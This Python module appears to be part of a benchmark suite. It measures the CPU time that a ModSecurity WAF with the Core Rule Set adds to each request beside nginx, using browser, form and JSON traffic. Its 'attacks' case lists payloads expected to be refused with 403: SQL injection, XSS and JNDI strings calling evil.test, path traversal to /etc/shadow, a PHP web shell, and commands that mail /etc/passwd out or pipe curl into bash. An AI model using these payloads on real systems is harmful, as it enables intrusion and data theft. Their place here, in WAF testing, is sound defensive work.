"""The WAF beside nginx with libmodsecurity: the same Core Rule Set, what it adds to a request."""
import json
import pathlib
import random
import subprocess
import sys
import urllib.parse

from . import places, prepare, report, window
from .peers.peer import Model, Task

RULES = pathlib.Path('/usr/share/modsecurity-crs/rules')
SETUP = pathlib.Path('/etc/modsecurity/crs/crs-setup.conf')
WEB = {name: places.POOLS[name] for name in 'AB'}

# What modsecurity.conf-recommended switches on, without logs. Blocking, paranoia level 1 (the rule set's own default).
SETTINGS = r'''SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 131072
SecRequestBodyLimitAction Reject
SecResponseBodyAccess Off
SecPcreMatchLimit 100000
SecPcreMatchLimitRecursion 100000
SecAuditEngine Off
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
'''

BROWSER = {
    'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
    'Accept': 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    'Accept-Language': 'en-GB,en;q=0.7,de;q=0.3',
    'Accept-Encoding': 'gzip, deflate, br, zstd',
    'Referer': 'https://bench.test/catalogue/gardening',
    'Cookie': 'sid=0f8e1c77b2d94a3e; lang=en; seen=4711.4712.4713',
    'DNT': '1',
    'Sec-Fetch-Dest': 'document',
    'Sec-Fetch-Mode': 'navigate',
    'Sec-Fetch-Site': 'same-origin',
    'Upgrade-Insecure-Requests': '1',
}
# No word of SQL among them: libinjection takes prose with `while` and `and` for an attack.
PROSE = ('the harbour was quiet that morning and two ferries waited at the pier where gulls walked along the wall '
         'nobody had opened the kiosk yet a crate of lemons stood beside the door').split()


def request(method, target, body=b'', kind=None, headers=None):
    """Bytes of one request."""
    fields = dict(BROWSER if headers is None else headers)
    if body:
        fields |= {'Content-Type': kind, 'Content-Length': len(body)}
    head = ''.join(f'{name}: {value}\r\n' for name, value in fields.items())
    return f'{method} {target} HTTP/1.1\r\nHost: bench.test\r\n{head}\r\n'.encode() + body


def prose(chance, length):
    """Words, about so many bytes."""
    text = ''
    while len(text) < length:
        text += chance.choice(PROSE) + ' '
    return text[:length].strip()


def document(chance, size):
    """JSON of about `size` bytes: short and long texts, numbers, nesting."""
    rows, length = [], 0
    while length < size - 100:
        row = {'id': chance.randrange(10**6), 'name': prose(chance, 20), 'stock': {'shelf': chance.randrange(40), 'left': chance.random() < 0.5},
               'text': prose(chance, 60 if size < 10_000 else 500)}
        rows.append(row)
        length += len(json.dumps(row)) + 2
    return json.dumps({'version': 2, 'rows': rows}).encode()


def cases():
    """{name: (requests, title)}; the last one is refused."""
    chance = random.Random(11)
    url = urllib.parse.quote
    arguments = ['/b/1024?' + urllib.parse.urlencode({'search': prose(chance, 20), 'page': number, 'order': 'name', 'shop': 'north', 'ref': f'{chance.randrange(1 << 40):x}'})
                 for number in range(8)]
    form = urllib.parse.urlencode({f'line{number}': prose(chance, 85) for number in range(11)}).encode()[:1024]
    attacks = [f'/b/1024?id={url(text)}' for text in (
        "7' OR 'x'='x", '7 UNION ALL SELECT login,secret FROM accounts', "7'; EXEC xp_cmdshell('dir')--", '7 AND BENCHMARK(9000000,MD5(1))',
        '<script src=//evil.test/a.js></script>', '"><svg onload=fetch("//evil.test")>', '../../../../../etc/shadow', ';cat /etc/passwd|mail x@evil.test',
        '$(curl -s evil.test/p|bash)', '<?php passthru($_POST[0]);?>', '${jndi:ldap://evil.test/o}', 'php://filter/convert.base64-encode/resource=index')]
    return {
        'get': ([request('GET', f'/b/1024?{number}') for number in range(8)], 'A GET as a browser sends it.'),
        'arguments': ([request('GET', target) for target in arguments], 'A GET with five arguments.'),
        'form': ([request('POST', '/b/1024', form, 'application/x-www-form-urlencoded')], 'A form of 1 KiB.'),
        'json-4k': ([request('POST', '/b/1024', document(chance, 4096), 'application/json')], 'JSON, 4 KiB.'),
        'json-64k': ([request('POST', '/b/1024', document(chance, 65_536), 'application/json')], 'JSON, 64 KiB.'),
        'attacks': ([request('GET', target) for target in attacks]
                    + [request('GET', '/.git/config'), request('GET', '/b/1024', headers=BROWSER | {'User-Agent': 'sqlmap/1.8'}),
                       request('POST', '/b/1024', b'user=admin%27--&password=%27+or+1%3D1%23', 'application/x-www-form-urlencoded')],
                    'Attacks, each answered with 403.'),
    }


def missing():
    """Why it cannot be measured here."""
    for path in (RULES, SETUP):
        if not path.exists():
            return f'{path} does not exist (Debian: apt-get install modsecurity-crs)'
    return None


def rules():
    """The files in order, written once."""
    settings = places.RUN / 'waf-settings.conf'
    settings.write_text(SETTINGS)
    return [settings, SETUP, *sorted(RULES.glob('*.conf'))]


def scenario(run):
    """Every case: each peer with the WAF and without, in turn; then the engine by itself."""
    why = missing()
    if why:
        yield f'### waf\n\nNot measured: {why}.\n', {}
        return
    task = Task('waf', json.dumps([str(path) for path in rules()]), '')
    kinds = [kind for peer in run.peers for kind in [peer, *peer.extended(task)] if peer.extended(task)]
    if not kinds:
        yield '### waf\n\nNot measured: no peer can take part.\n', {}
        return
    running = run.start_all(kinds, 'waf', Model(WEB))
    bare = {peer.name: peer.bare.name for peer in running if peer.bare}
    summary, raw = [['', *bare, 'nginx : portcullis', 'natively', 'sandbox : native']], {}
    try:
        for name, (requests, title) in cases().items():
            path = places.RUN / f'waf-{name}.requests'
            window.write_requests(path, requests)

            def load(peer, path=path, refused=name == 'attacks'):
                status = 403 if refused and peer.bare else 200
                return run.windows.load(peer, '--target', f'127.0.0.1:{peer.http}', '--conns', 16, '--requests-file', path, '--expect-status', status)

            results = run.rounds(f'waf-{name}', running, load)
            native = natively(path)
            more = {peer: report.median_added(results, peer, without) for peer, without in bare.items()}
            raw[name] = {'rounds': results, 'native_us': native}
            ours = next((value for peer, value in more.items() if peer.startswith('portcullis')), None)
            theirs = next((value for peer, value in more.items() if peer.startswith('nginx')), None)
            summary.append([name, *(f'{value:.1f}' for value in more.values()), f'{theirs / ours:.1f}' if ours and theirs else '–',
                            f'{native:.1f}' if native else '–', f'{ours / native:.2f}' if ours and native else '–'])
            yield f'### waf-{name}\n\n{title} HTTP/1.1, 16 connections.\n\n{report.added(results, bare, 1)}\n', raw[name]
    finally:
        run.stop(running)
    yield f'### waf\n\nCPU µs that the WAF adds to a request, medians.\n\n{report.rows(*summary)}\n', raw


def natively(path):
    """CPU µs of the engine alone for a request of the file, compiled for this machine; None where it was not built."""
    program = prepare.engine()
    if program is None:
        return None
    done = subprocess.run([program, f'--requests={path}', *map(str, rules())], capture_output=True, text=True, timeout=120)
    if done.returncode:
        print(f'waf natively: {done.stderr.strip()}', file=sys.stderr)
        return None
    return json.loads(done.stdout)['us_request']
